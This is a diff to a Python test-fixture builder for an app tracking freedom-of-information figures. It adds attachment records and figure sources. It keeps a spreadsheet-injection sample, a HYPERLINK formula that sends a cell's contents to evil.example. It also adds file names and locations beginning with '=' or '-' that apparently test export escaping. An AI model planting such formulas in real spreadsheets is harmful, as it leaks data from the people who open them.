@@ -7,8 +7,8 @@ cases the importer would tidy up (a reported figure with no wording) are there t
 
 from __future__ import annotations
 
-from figures_app.models import Category, Dimension, Figure, FigureReview, Kind, Metric
-from requests_app.models import Campaign
+from figures_app.models import Category, Dimension, Figure, FigureReview, FigureSource, Kind, Metric
+from requests_app.models import AttachmentScreening, Campaign, RequestAttachment
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 
@@ -43,9 +43,12 @@ def build(campaign: Campaign, *, more: bool = False) -> None:
     FigureReview.objects.create(request=essex, state="pending")
     FigureReview.objects.create(request=surrey, state="sent_back")
 
-    def fig(foi, metric, period, kind, *, value=None, raw="", note="", cats=(), bounds=None):
+    def fig(
+        foi, metric, period, kind, *, value=None, raw="", note="", cats=(), bounds=None, **more
+    ):
         lower, upper = bounds or ((1, 4) if kind == Kind.SUPPRESSED else (None, None))
         Figure.objects.create(
+            **more,
             request=foi,
             metric=metric,
             period=period,
@@ -95,3 +98,23 @@ def build(campaign: Campaign, *, more: bool = False) -> None:
         fig(cumbria, places, p2, r, value=5, raw="5", note="-5\n\n", cats=[online])
         fig(lancs, places, p1, r, value=3, raw="3", note="-\u0663.\u0661", cats=[home])
         fig(lancs, places, p2, r, value=3, raw="3", note="\\.", cats=[online])
+        # Where figures were read (issue 13) and where they came from (issue 14).
+        reply = attachment(durham, '=reply, "final".xlsx', "replies/durham.xlsx")
+        leaked = attachment(dyfed, "leaked.xlsx", "replies/leaked.xlsx", quarantined=True)
+        gone = attachment(essex, "deleted.xlsx", "")
+        fig(durham, places, p1, r, value=4, raw="4", cats=[home], attachment=reply, location="B7")
+        fig(durham, places, p2, r, value=5, raw="5", cats=[home], attachment=reply, location="")
+        fig(dyfed, places, p1, r, value=6, raw="6", cats=[home], attachment=leaked, location="C3")
+        fig(essex, places, p1, r, value=7, raw="7", cats=[home], attachment=gone, location="-D4")
+        fig(surrey, offences, p1, r, value=8, raw="8", cats=[a13], location="=page 2, table 1")
+        fig(sussex, offences, p1, r, value=9, raw="9", cats=[a13], source=FigureSource.PUBLISHED)
+
+
+def attachment(foi, name: str, stored: str, *, quarantined: bool = False) -> RequestAttachment:
+    """A file on the request's record (no bytes needed: the export reads only its row);
+    `stored` "" is a file whose bytes were deleted."""
+    made = RequestAttachment.objects.create(
+        request=foi, file=stored, original_name=name, sha256="0" * 64, size_bytes=1
+    )
+    AttachmentScreening.objects.create(attachment=made, quarantined=quarantined, findings=[])
+    return made
